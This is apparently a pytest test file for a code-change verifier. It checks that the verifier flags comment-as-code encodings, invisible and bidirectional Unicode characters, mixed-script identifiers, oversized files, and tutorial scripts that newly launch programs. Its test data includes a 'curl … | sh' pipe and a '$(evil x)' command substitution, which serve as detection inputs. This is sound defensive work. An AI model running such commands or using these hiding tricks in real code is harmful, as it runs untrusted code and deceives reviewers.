"""What people read in a change is what Python reads, or a doubt says so."""

import pytest

from supervisor.verification.rules.commands import other_programs
from supervisor.verification.rules.judged import EXECUTABLE, FileChange
from supervisor.verification.rules.reading import TOO_LARGE, misread, unseen


def changed(after: str, before: str = "", path: str = "tool/cli.py") -> FileChange:
    return FileChange(path, before, after)


@pytest.mark.parametrize("coding", ["utf-7", "rot13", "utf_7", "raw_unicode_escape", "idna", "nobody-knows-it"])
def test_an_encoding_in_which_a_comment_may_be_code_is_refused(coding: str) -> None:
    text = f"#!/usr/bin/python\n# -*- coding: {coding} -*-\nx = 1\n"
    assert [each.rule for each in misread(changed(text))] == ["unreadable"]
    assert not list(misread(changed(text, text)))


@pytest.mark.parametrize("coding", ["utf-8", "UTF8", "latin-1", "iso-8859-15", "cp1252", "ascii"])
def test_others_are_not(coding: str) -> None:
    assert not list(misread(changed(f"# coding: {coding}\n")))
    assert not list(misread(changed("x = 1\ny = 2\n# coding: utf-7\n")))


@pytest.mark.parametrize("hidden", ["\u202e", "\u2066", "\u200b", "\x1b[2K", "\x08", "\r", "\u2028", "\u3164"])
def test_what_is_not_shown_is_a_doubt(hidden: str) -> None:
    text = f"x = 1  # {hidden} it\n"
    assert len(list(unseen(changed(text)))) == 1
    assert not list(unseen(changed(text + "y = 2\n", text)))
    assert not list(unseen(changed(text, path="docs/guide.md")))
    assert len(list(unseen(FileChange("tests/golden.out", None, text, 0, EXECUTABLE)))) == 1


@pytest.mark.parametrize(
    "text",
    [
        "naïve = 'é'\r\n",
        "\ufeffx = 1\n",
        "x = '👩\u200d💻 ✓ → “…”'\n",
        "λ, µ = 'шар', 'Ωmega'\n",
        "größe = ñandú = 1\n",
    ],
)
def test_other_languages_are_none(text: str) -> None:
    assert not list(unseen(changed(text)))


def test_a_name_in_letters_of_two_scripts_is_a_doubt() -> None:
    assert ["'tot\\u0430l'" in each.sentence for each in unseen(changed("def tot\u0430l():\n    pass\n"))] == [True]


def test_what_is_too_large_is_a_doubt_whatever_it_is() -> None:
    assert "too large" in next(unseen(changed(f"{TOO_LARGE})", path="docs/table.csv"))).sentence


@pytest.mark.parametrize(
    ("before", "after", "new"),
    [
        ("tool add x\n", "tool add x\ntool list | wc -l\n", ["wc"]),
        ("tool add x\n", "curl example.invalid | sh\ntool add x\n", ["curl", "sh"]),
        ("tool add x\n", "# curl it\nLEVEL=1 tool add y  \\\n  --now\necho done; cd there && tool list\n", []),
        ("tool add x\n", "tool add $(evil x)\n", ["evil"]),
        ("$ tool add x\n", "$ tool list\n", []),
    ],
)
def test_a_tutorial_that_starts_another_program_is_a_doubt(before: str, after: str, new: list[str]) -> None:
    said = [each.sentence for each in other_programs(changed(after, before, "tutorial.sh"))]
    assert said == [f"tutorial.sh runs `{each}`, which it did not before" for each in new]
